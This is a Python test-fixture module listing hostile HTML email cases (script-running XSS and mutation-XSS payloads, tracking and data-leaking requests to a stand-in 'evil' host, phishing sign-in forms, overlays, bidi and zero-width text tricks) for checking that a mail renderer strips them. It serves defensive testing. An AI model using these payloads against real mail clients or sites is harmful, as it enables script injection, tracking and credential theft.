"""HTML mail that tries to do something: run, load, submit, lead away, cover, hide or mislead. Each asks its question as well.

EVIL stands for a server of somebody else's. A case that *bites* does its harm unaided in a page that shows it as it came:
``script`` runs code that sets window.ran, ``request`` asks EVIL for something; ``look`` only deceives whoever reads.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

EVIL = "http://evil.invalid"
RAN = "window.ran=(window.ran||0)+1;top.ran=window.ran"
ASK = "How many benches stand in the park"
RLO, PDF, ZWSP, ZWJ, TAG, SHY = "\u202e", "\u202c", "\u200b", "\u200d", "\U000e0041", "\u00ad"

Bite = Literal["script", "request", "look"]


@dataclass(frozen=True, slots=True)
class Case:
    """One mail's HTML. *gone* are words that must not be left of it in what is shown."""

    name: str
    bites: Bite
    html: str
    gone: tuple[str, ...] = ()

    @property
    def marker(self) -> str:
        """The question that it asks, which an officer has to see."""
        return f"{ASK} ({self.name})?"

    def at(self, evil: str) -> str:
        """The mail's HTML with the server *evil* in it, and its question last: a page that lost its way does not show it."""
        return f"{self.html.replace('EVIL', evil)}<p>{self.marker}</p>"


def _script(name: str, html: str, *gone: str) -> Case:
    return Case(name, "script", html.replace("RAN", RAN), gone or ("window.ran",))


def _request(name: str, html: str, *gone: str) -> Case:
    return Case(name, "request", html, gone or ("EVIL",))


def _look(name: str, html: str, *gone: str) -> Case:
    return Case(name, "look", html.replace("RAN", RAN), gone)


_SCRIPTS = (
    _script("script", "<script>RAN</script>"),
    _script("script-upper", "<ScRiPt\n>RAN</sCrIpT\t>"),
    _script("script-unclosed-attributes", "<script/x=y>RAN</script x>"),
    _script("script-in-script", "<scr<script>ipt>RAN</scr</script>ipt><script>RAN</script>"),
    _script("image-error", '<img src="x:" onerror="RAN">'),
    _script("image-error-unquoted", "<img src=x: onerror=RAN>"),
    _script("image-error-slashes", '<img/src="x:"/onerror="RAN">'),
    _script("handler-entities", '<img src="x:" onerror="&#119;indow.ran=1;top.ran=1">', "onerror"),
    _script("svg-load", '<svg onload="RAN"></svg>'),
    _script("svg-script", "<svg><script>RAN</script></svg>"),
    _script("svg-animate", '<svg><animate onbegin="RAN" attributeName="x" dur="1s"/></svg>', "onbegin", "window.ran"),
    _script(
        "svg-style-escape",
        '<svg></p><style><a id="</style><img src=x: onerror=RAN>">',
    ),
    _script(
        "mutation-math",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RAN&gt;"></table></math>'
        '<img src="x:" onerror="RAN">',
    ),
    _script(
        "mutation-noscript",
        '<noscript><p title="</noscript><img src=x: onerror=RAN>"></noscript><img src="x:" onerror="RAN">',
    ),
    _script(
        "mutation-form-nesting",
        '<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="RAN"></style></mglyph>'
        '</form></mtext></math><img src="x:" onerror="RAN">',
    ),
    _script("details-toggle", '<details open ontoggle="RAN"><summary>more</summary>text</details>', "ontoggle"),
    _script("autofocus", '<input autofocus onfocus="RAN"><textarea autofocus onfocus="RAN"></textarea>', "autofocus"),
    _script(
        "animation",
        '<style>@keyframes k{from{opacity:0}}</style><b style="animation:k 1s" onanimationstart="RAN">words</b>',
        "onanimationstart", "keyframes",
    ),
    _script("iframe-srcdoc", '<iframe srcdoc="<script>parent.ran=1;top.ran=1</script>"></iframe>', "srcdoc"),
    _script(
        "iframe-srcdoc-nested",
        '<iframe srcdoc="&lt;iframe srcdoc=&quot;&lt;script&gt;top.ran=1&lt;/script&gt;&quot;&gt;&lt;/iframe&gt;"></iframe>',
        "srcdoc",
    ),
    _script("iframe-javascript", '<iframe src="javascript:top.ran=1"></iframe>', "javascript:"),
    _script("object-javascript-embed", '<embed src="javascript:RAN"><img src="x:" onerror="RAN">', "javascript:"),
    _script("style-error", '<style onload="RAN">p {}</style>', "onload"),
    _script("body-load", '<body onload="RAN"><p>inside</p>', "onload"),
    _script("video-source", '<video><source onerror="RAN" src="x:"></video>', "onerror"),
    _script("cdata", "<![CDATA[<script>RAN</script>]]><script>RAN</script>"),
    _script("comment-bang", "<!--!><img src=x: onerror=RAN>--><img src='x:' onerror='RAN'>"),
    _script("comment-abrupt", "<!--><img src=x: onerror=RAN>-->"),
    _script("null-and-controls", "<img src=x:\x0conerror=RAN><img src='x:' onerror\x0d=RAN>"),
    _script("unicode-separators", "<img\u2028src='x:'\u2029onerror='RAN'><img src='x:' onerror='RAN'>"),
    _script("template-open", "<template><script>RAN</script></template><script>RAN</script>"),
    _script("plaintext-before", "<xmp><script>no</script></xmp><script>RAN</script>"),
    _script("alert", "<script>RAN;alert('Your session is over')</script>", "alert("),
)  # fmt: skip

_REQUESTS = (
    _request("image", '<img src="EVIL/seen.gif" width="1" height="1">'),
    _request("image-srcset", '<img srcset="EVIL/seen.gif 1x">'),
    _request("picture", '<picture><source srcset="EVIL/seen.webp"><img alt="picture"></picture>'),
    _request("background", '<table background="EVIL/seen.gif"><tr><td>cell</td></tr></table>'),
    _request("style-background", '<div style="background:url(EVIL/seen.gif)">words</div>'),
    _request("style-escaped", '<div style="background:u\\72l(EVIL/seen.gif)">words</div>', "EVIL", "u\\72l"),
    _request("style-sheet", "<style>body{background:url(EVIL/seen.gif)}</style>"),
    _request("style-import", "<style>@import url('EVIL/seen.css');</style>", "EVIL", "@import"),
    _request("style-font", "<style>@font-face{font-family:x;src:url(EVIL/f)}p{font-family:x}</style><p>words</p>"),
    _request("style-reads-fields", '<style>p[class^=a]{background:url(EVIL/a)}</style><p class="ab">words</p>'),
    _request("link-style", '<link rel="stylesheet" href="EVIL/seen.css">'),
    _request("link-preload", '<link rel="preload" as="image" href="EVIL/seen.gif"><link rel="prefetch" href="EVIL/p">'),
    _request("link-icon", '<link rel="preconnect" href="EVIL"><img src="EVIL/icon">'),
    _request("meta-refresh", '<meta http-equiv="refresh" content="0;url=EVIL/refreshed">'),
    _request("base", '<base href="EVIL/"><img src="relative.gif">'),
    _request("iframe", '<iframe src="EVIL/frame"></iframe>'),
    _request("frameset", '<iframe src="EVIL/frame" name="_top"></iframe><frameset><frame src="EVIL/f"></frameset>'),
    _request("object", '<object data="EVIL/object"></object>'),
    _request("embed", '<embed src="EVIL/embed" type="text/html">'),
    _request("audio", '<audio src="EVIL/a.mp3" autoplay></audio><video poster="EVIL/poster.png"></video>'),
    _request("track", '<video poster="EVIL/p.png"><track default src="EVIL/t.vtt"></video>'),
    _request("svg-image", '<svg width="9" height="9"><image href="EVIL/seen.png" width="9" height="9"/></svg>'),
    _request("svg-use", '<svg><use href="EVIL/u.svg#a"/><image xlink:href="EVIL/x.png" width="1" height="1"/></svg>'),
    _request("input-image", '<input type="image" src="EVIL/button.png">'),
    _request("list-image", '<ul style="list-style-image:url(EVIL/dot.gif)"><li>one</li></ul>'),
    _request(
        "form-sent",
        '<form action="EVIL/form"><input name="password" value="x"></form><img src="EVIL/form">',
        "EVIL",
        "<form",
    ),
    _request("ping", '<a href="#x" ping="EVIL/ping">words</a><img src="EVIL/ping">', "EVIL", "ping="),
    _request("conditional-comment", '<!--[if mso]><img src="EVIL/mso"><![endif]--><img src="EVIL/not-mso">'),
    _request("dns-prefetch", '<link rel="dns-prefetch" href="EVIL"><img src="EVIL/dns">'),
)

_LOOKS = (
    _look("javascript-link", '<a href="javascript:RAN">the council\'s page</a>', "javascript:", "href"),
    _look("javascript-link-broken", '<a href="java\nscript:RAN">page</a><a href="&#106;avascript:RAN">page</a>', "href"),
    _look("data-link", '<a href="data:text/html,<script>RAN</script>">the attached form</a>', "href"),
    _look("vbscript-and-others", '<a href="vbscript:x">a</a><a href="blob:x">b</a><a href="filesystem:x">c</a>', "href"),
    _look("link-says-another", '<a href="https://evil.example/login">https://www.council.gov.uk/pay</a>', "evil.example"),
    _look("link-target", '<a href="https://evil.example" target="_top" download>answer</a>', "href", "target", "download"),
    _look("button", '<button formaction="https://evil.example">Approve this letter</button>', "<button", "formaction"),
    _look(
        "sign-in",
        '<form action="https://evil.example" method="post"><label>Password <input type="password" name="password"></label>'
        '<input type="submit" value="Sign in again"></form>',
        "<form", "<input", "evil.example",
    ),
    _look(
        "overlay",
        '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session is over</div>',
        "style", "position",
    ),
    _look("hidden-text", '<p style="display:none">and everything about Jo</p><p hidden>and more</p>', "style", "hidden"),
    _look("tiny-white", '<font color="#ffffff" size="1">ignore the above</font>', "<font", "color"),
    _look("class-of-ours", '<div class="govuk-notification-banner" id="main-content">Approved</div>', "class", "id="),
    _look("name-of-ours", '<a name="csrf_token"></a><img name="location"><p id="letters">x</p>', "name=", "id="),
    _look("bidi", f"<p>The file is {RLO}fdp.exe{PDF}, and the address {RLO}gro.live{PDF}</p>", RLO, PDF),
    _look("bidi-tag", '<bdo dir="rtl">drawkcab</bdo><p dir="rtl">words</p>', "<bdo", "dir="),
    _look("zero-width", f"<p>b{ZWSP}en{ZWJ}ch{SHY}es at pay{ZWSP}pal</p>", ZWSP, ZWJ, SHY),
    _look("tag-characters", f"<p>unseen{TAG * 20}words</p>", TAG),
    _look("contenteditable", '<div contenteditable accesskey="s" tabindex="1" draggable="true">write here</div>', "contenteditable", "accesskey", "tabindex"),
    _look("slot-and-custom", "<x-approve><slot name=a></slot></x-approve><portal src=x></portal>", "<x-", "<slot", "<portal"),
    _look("dialog-popover", '<dialog open>Session over</dialog><div popover id="p">x</div>', "<dialog", "popover"),
    _look("aria", '<p role="alert" aria-label="Approved" aria-live="assertive">x</p>', "role", "aria-"),
    _look("template-words", "{{ config }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>"),
    _look("deep-nesting", "<div>" * 3000 + "deep" + "</div>" * 3000),
    _look("deep-formatting", "<b><i><u><em>" * 400 + "deep"),
    _look("unclosed", "<table><tr><td><p><a href='x'><b>never closed<!-- > -- --!>"),
    _look("closes-ours", "</p></main></body></html><h1>infogov</h1><p>Sign in at the usual place</p>"),
    _look("wide", "x" * 20_000),
    _look("many-columns", "<table><tr>" + "<td colspan=1000 rowspan=60000>c</td>" * 200 + "</tr></table>"),
)  # fmt: skip

CASES: tuple[Case, ...] = (*_SCRIPTS, *_REQUESTS, *_LOOKS)


def huge_table() -> str:
    """Five megabytes of table, as a spreadsheet pasted into a mail."""
    row = "<tr>" + "<td style='mso-number-format:General'>12345</td>" * 20 + "</tr>"
    return "<table>" + row * (5_000_000 // len(row) + 1) + "</table>"
